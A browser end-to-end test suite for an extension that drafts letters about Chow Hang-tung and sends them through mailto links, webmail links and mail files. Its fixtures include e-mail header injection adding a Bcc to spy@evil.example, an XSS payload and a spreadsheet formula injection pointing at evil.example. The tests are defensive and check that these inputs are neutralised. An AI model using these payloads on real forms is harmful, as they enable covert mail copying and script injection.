import PostalMime from 'postal-mime';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { browserNames, openBrowser, type TestBrowser, until } from './support/browser.ts';
import { placeInCard, pointAtName } from './support/card.ts';
import { type LetterPage, letterPage, readLink } from './support/compose.ts';
import { openAddresses } from './support/extension.ts';

/** Whoever the letter goes to first takes e-mail, in English. */
const mailed = 'compose.html?person=chow-hang-tung';

/** What somebody may type, or paste, or be tricked into pasting. */
const hostile = [
  'x\r\nBcc: spy@evil.example',
  '%0D%0ABcc:spy@evil.example&bcc=spy@evil.example?#',
  '<img src=x onerror="document.title=1"><script>document.title=2</script>',
  '😀👩🏽‍⚖️ \u202eright to left\u202c \u2066x\u2069 丁家喜 محمد "quoted" \'single\' + & = %',
].join('\n');

describe.each(browserNames)('the ways out of a letter, in %s', (name) => {
  let browser: TestBrowser;
  let letter: LetterPage;

  beforeAll(async () => {
    browser = await openBrowser(name);
  });
  afterAll(() => browser?.close());
  afterEach(async () => {
    await letter?.page.close();
  });

  const open = async () => {
    letter = letterPage(await browser.extensionPage(mailed));
    await letter.says('Send it yourself');
    await until(async () => (await letter.written()).body.length > 100, 'the letter');
    await letter.page.evaluate(() => {
      const saved = globalThis as unknown as { saved: Blob[] };
      saved.saved = [];
      const make = URL.createObjectURL;
      URL.createObjectURL = (blob: Blob) => {
        saved.saved.push(blob);
        return make.call(URL, blob);
      };
    });
  };
  const savedFile = () =>
    letter.page.evaluate(async () => {
      const { saved } = globalThis as unknown as { saved: Blob[] };
      return saved.at(-1)?.text();
    });
  const lf = (text: string) => text.replace(/\r\n?/g, '\n');

  test('from a card on a page to a filled mail it is two clicks', async () => {
    const page = await browser.read(
      'https://www.bbc.com/two-clicks',
      '<!doctype html><html lang="en"><head><link rel="icon" href="data:,"></head><body style="margin:60px"><p>The barrister Chow Hang-tung stood trial in Hong Kong.</p></body></html>',
    );
    let clicks = 0;
    const clickAt = async (at: typeof page, place: { x: number; y: number }) => {
      clicks++;
      await at.mouse.click(place.x, place.y);
    };
    await pointAtName(browser, page, 'Chow Hang-tung', 'Write');
    const button = await placeInCard(browser, page, 'Write');
    await page.mouse.move(button.x, button.y, { steps: 3 });
    // A click just after the card came is not taken: it may have been meant for the page.
    await new Promise((resume) => setTimeout(resume, 700));
    await clickAt(page, button);
    await until(
      async () =>
        (await openAddresses(browser)).some((url) => url.includes('compose.html#person=chow-hang-tung')),
      'the letter page to open',
    );
    expect(clicks).toBe(1);
    await page.close();

    // The second click, on the same page opened by hand: the browsers' drivers do not hand over the tab it opened.
    await open();
    const place = await letter.page.evaluate(() => {
      const link = [...document.querySelectorAll('a')].find((one) => one.href.startsWith('mailto:'));
      link?.addEventListener('click', (event) => {
        event.preventDefault();
        document.body.dataset.mail = link.href;
      });
      const box = link?.getBoundingClientRect();
      return box && { x: box.x + box.width / 2, y: box.y + box.height / 2 };
    });
    if (!place) throw new Error('no mail link to be seen');
    await clickAt(letter.page, place);
    expect(clicks).toBe(2);
    const href = await letter.page.evaluate(() => document.body.dataset.mail ?? '');
    expect(readLink(href).get('to')).toMatch(/@/);
    expect(lf(readLink(href).get('body') ?? '')).toBe((await letter.written()).body);
    expect((await letter.written()).body).toContain('Ms Chow');
  });

  test('the mail link, the links to mail services and the file carry what was typed, whatever it was', async () => {
    await open();
    await letter.fill('#letter-subject', hostile);
    await letter.fill('#letter-body', hostile);
    await letter.click('button', 'Save as a mail file');
    const { subject, body } = await letter.written();
    expect(body).toBe(lf(hostile));
    expect(subject).not.toMatch(/[\r\n]/);
    await until(async () => {
      const link = readLink((await letter.href('Open in my e-mail')) ?? 'mailto:?');
      return lf(link.get('body') ?? '') === body;
    }, 'the mail link to follow');
    const links = new Map<string, string>();
    for (const way of [
      'Open in my e-mail',
      'Gmail',
      'Outlook.com',
      'Outlook (Microsoft 365)',
      'Proton',
      'Yahoo',
    ])
      links.set(way, (await letter.href(way)) ?? '');
    for (const [way, href] of links) {
      const read = readLink(href);
      const names = [...read.keys()].filter((key) => !['view', 'fs'].includes(key));
      expect(names.sort(), way).toEqual(['body', way === 'Gmail' ? 'su' : 'subject', 'to'].sort());
      expect(lf(read.get('body') ?? ''), way).toBe(body);
      expect(read.get(way === 'Gmail' ? 'su' : 'subject'), way).toBe(subject);
    }
    const mail = await PostalMime.parse((await savedFile()) ?? '');
    expect(lf(mail.text ?? '').replace(/\n$/, '')).toBe(body);
    expect(mail.subject).toBe(subject);
    expect(mail.bcc).toBeUndefined();
    expect(mail.headers.find(({ key }) => key === 'x-unsent')?.value).toBe('1');
    expect(await letter.page.title()).toContain('Letter for');
  });

  test('a link to a mail service says who reads the letter, and tells it nothing of where it came from', async () => {
    await open();
    await letter.click('summary', 'In a mail service');
    await letter.says('Google sees the letter');
    await letter.says('The company reads the letter as soon as the link opens.');
    const loose = await letter.page.evaluate(() =>
      [...document.querySelectorAll<HTMLAnchorElement>('a[href^="http"]')]
        .filter(({ rel, target }) => !rel.includes('noreferrer') || target !== '_blank')
        .map(({ href }) => href),
    );
    expect(loose).toEqual([]);
  });

  test('fifty thousand characters are too long for a link, which is said; the file has them all', async () => {
    await open();
    const long = '家 word\n'.repeat(7_150).trim();
    await letter.fill('#letter-body', long);
    await letter.says('too long for a link');
    expect(await letter.href('Open in my e-mail')).toBeUndefined();
    await letter.click('summary', 'In a mail service');
    await letter.says('too long for a link to Google');
    await letter.click('button', 'Save as a mail file');
    const mail = await PostalMime.parse((await savedFile()) ?? '');
    expect(lf(mail.text ?? '').trim()).toBe(long);
  });

  test('a letter that some programs would cut is sent with a plain word about it', async () => {
    await open();
    await letter.fill('#letter-body', 'ä'.repeat(600));
    await letter.says('Some mail programs on Windows cut after 2,048');
    expect(await letter.href('Open in my e-mail')).toMatch(/^mailto:/);
  });

  test('after a letter was sent a line is kept, and never the text', async () => {
    await open();
    await letter.fill('#letter-body', 'My own words, which nobody else is to keep.');
    await letter.says('draft kept on this computer');
    await letter.click('button', 'Save as a mail file');
    await letter.says('Did you send it?');
    // Turned to somebody else before answering: what is noted is what was taken.
    await letter.page.evaluate(() =>
      document.querySelector<HTMLInputElement>('input[name="recipient"]:not(:checked)')?.click(),
    );
    await letter.click('button', 'Yes, I sent it');
    await letter.says('It stands in your list');
    const kept = await letter.page.evaluate(
      () =>
        new Promise<string>((resolve, reject) => {
          const opening = indexedDB.open('vigil');
          opening.onerror = () => reject(opening.error);
          opening.onsuccess = () => {
            const act = opening.result.transaction(['letterLog', 'drafts']);
            const log = act.objectStore('letterLog').getAll();
            const drafts = act.objectStore('drafts').getAll();
            act.oncomplete = () => {
              opening.result.close();
              resolve(JSON.stringify([log.result, drafts.result]));
            };
          };
        }),
    );
    expect(kept).toContain('"channel":"eml"');
    expect(kept).toContain('"recipientId":"hk-secretary-justice"');
    expect(kept).toContain('chow-hang-tung');
    expect(kept).not.toContain('My own words');
    const log = letterPage(await browser.extensionPage('casebook.html#/letters'));
    await log.says('for Chow Hang-tung');
    await log.says('by e-mail, as a file');
    await log.click('summary', 'Note a reply');
    await log.fill('.letter-line textarea', '=HYPERLINK("http://evil.example")');
    await log.click('button', 'Note it');
    await log.says('=HYPERLINK');
    await log.page.close();
  });
});
